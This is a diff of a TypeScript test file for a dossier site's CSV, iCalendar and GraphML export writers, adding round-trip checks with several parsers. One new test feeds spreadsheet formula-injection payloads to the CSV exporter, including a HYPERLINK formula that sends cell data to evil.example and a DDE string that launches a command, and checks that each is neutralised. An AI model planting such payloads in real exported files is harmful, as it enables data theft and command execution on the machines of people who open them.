@@ -1,21 +1,23 @@
-// The export writers on a hand-made dossier: each file is parsed back with an independent reader
-// (csv-parse, ical.js, fast-xml-parser, ajv) and compared with the data it was written from.
+// The export writers on a hand-made dossier: each file is read back with the tools analysts load it into
+// (csv-parse; ical.js and node-ical; networkx, graphology and fast-xml-parser; ajv) and compared with the
+// data it was written from.
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parse as parseCsv } from 'csv-parse/sync';
-import { stringify } from 'csv-stringify/sync';
 import ICAL from 'ical.js';
+import nodeIcal from 'node-ical';
 import { XMLParser } from 'fast-xml-parser';
 import { Ajv2020 } from 'ajv/dist/2020.js';
 import fc from 'fast-check';
 import {
-  CSV_QUOTED_MATCH, actorsCsv, claimsCsv, eventsCsv, eventsIcs, foldLine, networkGraphml, fallbackNetwork, renderExports, writeExports, calendarEvents,
+  actorsCsv, claimsCsv, eventsCsv, eventsIcs, guardFormula, networkGraphml, fallbackNetwork, renderExports, writeExports, calendarEvents,
 } from '../../scripts/site/exports.ts';
 import { dossierSchema } from '../../scripts/site/schema.ts';
 import type { Dossier } from '../../scripts/lib/types.ts';
 import { fixtureDossier, fixtureNetwork } from './fixture.ts';
+import { readWithGraphology, readWithNetworkx } from '../helpers/readers.ts';
 
 const meta = { compiled: '2021-03-05', siteUrl: 'https://dossier.example.net/briefing' };
 const rows = (csv: string) => parseCsv(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];
@@ -66,28 +68,40 @@ describe('CSV exports', () => {
     expect(csv).toContain('\r\nc-volk-closed,statement,true,maren-volk,the harbour master,port-authority; portville,');
   });
 
-  it('are byte-identical to csv-stringify with RFC 4180 options, on any text', () => {
-    const reference = (csv: string) => {
-      const table = parseCsv(csv) as string[][];
-      // csv-stringify 6.9 leaves fields with a bare line break unquoted (invalid RFC 4180, and csv-parse
-      // then reads them as extra records), so line breaks are added to its quoting rule here.
-      return stringify(table, { record_delimiter: 'windows', quoted_match: [CSV_QUOTED_MATCH, /[\r\n]/] });
-    };
-    for (const csv of [actorsCsv(d), claimsCsv(d), eventsCsv(d)]) expect(csv).toBe(reference(csv));
+  it('read back any text exactly, through csv-parse (only a formula-like start gains its apostrophe)', () => {
     fc.assert(
-      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom('', ' ', '"', ',', '\r\n', '\n', '\r', ';'), (t, extra) => {
+      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom('', ' ', '"', ',', '\r\n', '\n', '\r', ';', '=', '\t'), (t, extra) => {
         const x = fixtureDossier();
         x.claims[0].text = t + extra;
         x.claims[1].speaker_label = extra + t;
-        const csv = claimsCsv(x);
-        expect(csv).toBe(reference(csv));
-        const back = rows(csv);
-        expect(back[0].text).toBe(t + extra);
-        expect(back[1].speaker_label).toBe(extra + t);
+        const back = rows(claimsCsv(x));
+        expect(back).toHaveLength(2);
+        expect(back[0].text).toBe(guardFormula(t + extra));
+        expect(back[1].speaker_label).toBe(guardFormula(extra + t));
       }),
       { numRuns: 300 },
     );
   }, 30_000);
+
+  it('neutralise cells a spreadsheet would run as formulas (= + - @ tab CR first) with a leading apostrophe', () => {
+    const d = fixtureDossier();
+    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3*cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    d.claims[0].text = hostile[0];
+    d.claims[0].speaker_label = hostile[1];
+    d.claims[1].sentence = hostile[2];
+    d.actors[0].name = hostile[3];
+    d.actors[1].description = hostile[4];
+    d.events[0].title = hostile[5];
+    const claims = rows(claimsCsv(d));
+    const actors = rows(actorsCsv(d));
+    const events = rows(eventsCsv(d));
+    expect([claims[0].text, claims[0].speaker_label, claims[1].sentence, actors[0].name, actors[1].description, events[0].title]).toEqual(hostile.map((h) => `'${h}`));
+    // Text that merely holds such a character elsewhere, and the numbers, stay as they are.
+    expect(claims[1].text).toBe(d.claims[1].text);
+    expect(claims[0].independent_reports).toBe('1');
+    expect(guardFormula('a=1')).toBe('a=1');
+    expect(guardFormula('')).toBe('');
+  });
 });
 
 describe('iCalendar export', () => {
@@ -137,11 +151,29 @@ describe('iCalendar export', () => {
   });
 
   it('folds multi-byte text on character boundaries', () => {
-    const folded = foldLine(`SUMMARY:${'é'.repeat(80)}`);
-    const parts = folded.split('\r\n');
-    expect(parts.length).toBeGreaterThan(1);
-    for (const p of parts) expect(Buffer.byteLength(p, 'utf8')).toBeLessThanOrEqual(75);
-    expect(parts.map((p, i) => (i ? p.slice(1) : p)).join('')).toBe(`SUMMARY:${'é'.repeat(80)}`);
+    const d = fixtureDossier();
+    d.events[1].title = `${'é'.repeat(80)}😀${'ü'.repeat(40)}`;
+    const ics = eventsIcs(d, meta);
+    for (const line of ics.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
+    expect(ics).not.toContain('\uFFFD');
+    expect(vevents(ics)[1].ev.summary).toBe(d.events[1].title);
+  });
+
+  it('is read by node-ical: all-day events with their day, text, place and link', () => {
+    const d = fixtureDossier();
+    const cal = nodeIcal.sync.parseICS(ics);
+    const events = Object.values(cal).filter((c) => c?.type === 'VEVENT') as nodeIcal.VEvent[];
+    expect(events.map((e) => e.uid)).toEqual(['e-closure@dossier.example.net', 'e-leap@dossier.example.net']);
+    const closure = events[0];
+    expect(closure.datetype).toBe('date');
+    expect(closure.start.toISOString()).toBe('2021-03-03T00:00:00.000Z');
+    expect(closure.end?.toISOString()).toBe('2021-03-04T00:00:00.000Z');
+    expect(closure.summary).toBe(d.events[0].title);
+    expect(closure.location).toBe('Portville');
+    expect(String(closure.description)).toContain('Sources: Coastal Times: Harbour "closed", officials say | Bay Herald');
+    expect(closure.categories).toEqual(['other']);
+    expect(JSON.stringify(closure.url)).toContain('https://dossier.example.net/briefing/events/e-closure/');
+    expect(events[1].end?.toISOString()).toBe('2020-03-01T00:00:00.000Z');
   });
 });
 
@@ -158,11 +190,34 @@ describe('GraphML export', () => {
     const data = (n: any, key: string) => n.data.find((x: any) => x['@key'] === key)?.['#text'];
     expect(data(nodes[2], 'name')).toBe('Portville <&>');
     expect(data(nodes[0], 'url')).toBe('https://dossier.example.net/briefing/actors/maren-volk/');
-    expect(edges[0]['@directed']).toBe('true');
+    expect(g.graph['@edgedefault']).toBe('directed');
     expect(edges[0]['@source']).toBe('maren-volk');
     expect(data(edges[0], 'relations')).toBe('accuses:1; co-mention:1');
+    expect(data(edges[0], 'directed')).toBe(true); // fast-xml-parser reads "true" as a boolean
+    expect(data(edges[1], 'directed')).toBe(false);
     const keys = new Set(g.key.map((k: any) => k['@id']));
     for (const n of nodes) for (const x of n.data) expect(keys.has(x['@key'])).toBe(true);
+  });
+
+  it('is read by networkx as a directed graph, the edge kinds kept as attributes', () => {
+    const g = readWithNetworkx(networkGraphml(fixtureNetwork(), meta));
+    expect(g.kind).toBe('DiGraph');
+    expect(g.nodes.map((n) => n.id)).toEqual(['maren-volk', 'port-authority', 'portville']);
+    expect(g.nodes[2].data).toEqual({ name: 'Portville <&>', type: 'place', url: 'https://dossier.example.net/briefing/actors/portville/', mentions: 3 });
+    expect(g.edges).toEqual([
+      { source: 'maren-volk', target: 'port-authority', data: { id: 'maren-volk--port-authority', weight: 2, relations: 'accuses:1; co-mention:1', directed: true } },
+      { source: 'maren-volk', target: 'portville', data: { id: 'maren-volk--portville', weight: 1, relations: 'co-mention:1', directed: false } },
+    ]);
+  });
+
+  it('is read by graphology-graphml with the same nodes, edges and typed attributes', () => {
+    const g = readWithGraphology(networkGraphml(fixtureNetwork(), meta));
+    expect(g.type).toBe('directed');
+    expect([g.order, g.size]).toEqual([3, 2]);
+    expect(g.getNodeAttributes('port-authority')).toEqual({ name: 'Port Authority of Ésterhaven', type: 'organization', url: 'https://dossier.example.net/briefing/actors/port-authority/', mentions: 1 });
+    expect(g.source('maren-volk--port-authority')).toBe('maren-volk');
+    expect(g.getEdgeAttributes('maren-volk--port-authority')).toEqual({ weight: 2, relations: 'accuses:1; co-mention:1', directed: true });
+    expect(g.getEdgeAttribute('maren-volk--portville', 'directed')).toBe(false);
   });
 
   it('drops edges to undeclared nodes and characters XML cannot hold', () => {
@@ -238,7 +293,7 @@ describe('writeExports', () => {
     const files = renderExports(empty, null, { compiled: null, siteUrl: null });
     expect(rows(files.get('actors.csv')!)).toHaveLength(0);
     expect(vevents(files.get('events.ics')!)).toHaveLength(0);
-    expect(files.get('events.ics')).toBe('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Dossier//Dossier events//EN\r\nCALSCALE:GREGORIAN\r\nMETHOD:PUBLISH\r\nX-WR-CALNAME:Dossier events\r\nEND:VCALENDAR\r\n');
+    expect(files.get('events.ics')).toBe('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Dossier//Dossier events//EN\r\nCALSCALE:GREGORIAN\r\nMETHOD:PUBLISH\r\nNAME:Dossier events\r\nX-WR-CALNAME:Dossier events\r\nEND:VCALENDAR\r\n');
 
     fc.assert(
       fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ unit: 'grapheme', maxLength: 120 }), (weird, words) => {
@@ -248,9 +303,10 @@ describe('writeExports', () => {
         d.claims[0].text = weird + words;
         d.events[0].title = words + weird;
         const out = renderExports(d, fixtureNetwork(), { compiled: weird, siteUrl: weird });
-        expect(rows(out.get('claims.csv')!)[0].text).toBe(weird + words);
+        expect(rows(out.get('claims.csv')!)[0].text).toBe(guardFormula(weird + words));
         expect(vevents(out.get('events.ics')!)).toHaveLength(2);
         expect(parseXml(out.get('network.graphml')!).graphml.graph.node).toHaveLength(3);
+        expect(readWithGraphology(out.get('network.graphml')!).order).toBe(3);
       }),
       { numRuns: 60 },
     );
